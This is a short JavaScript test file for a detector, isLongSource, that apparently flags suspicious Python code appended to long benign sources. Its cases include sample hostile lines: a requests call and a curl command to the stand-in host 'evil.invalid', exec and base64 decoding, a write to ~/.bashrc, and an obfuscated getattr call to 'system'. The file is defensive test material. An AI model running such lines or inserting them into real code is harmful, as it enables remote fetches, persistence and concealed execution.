import { isLongSource } from '../../../src/analysis/machine/layers.js';

const LINES = 'def name():\n    """What the project is called."""\n    return "fixture"\n\n'.repeat(400);

test('a long program that leads nowhere else is read as a module is', () => {
  expect(isLongSource(LINES)).toBe(true);
  expect(isLongSource(`${LINES}import subprocess\nsubprocess.run(["git", "describe"])\n`)).toBe(true);
});

test.each([
  ['a short one', LINES.slice(0, 10_000)],
  ['one that is not known', undefined],
  ['one that sends', `${LINES}import requests\nrequests.get("https://evil.invalid")\n`],
  ['one that fetches by a command', `${LINES}import os\nos.system("curl https://evil.invalid/x")\n`],
  ['one that runs further text', `${LINES}exec(name())\n`],
  ['one that decodes', `${LINES}import base64\nbase64.b64decode(name())\n`],
  ['one that starts again', `${LINES}open("/home/a/.bashrc", "a")\n`],
  ['one that puts names together', `${LINES}getattr(x, "sys" + "tem")("a")\n`],
])('%s is not', (_, text) => {
  expect(isLongSource(text)).toBe(false);
});
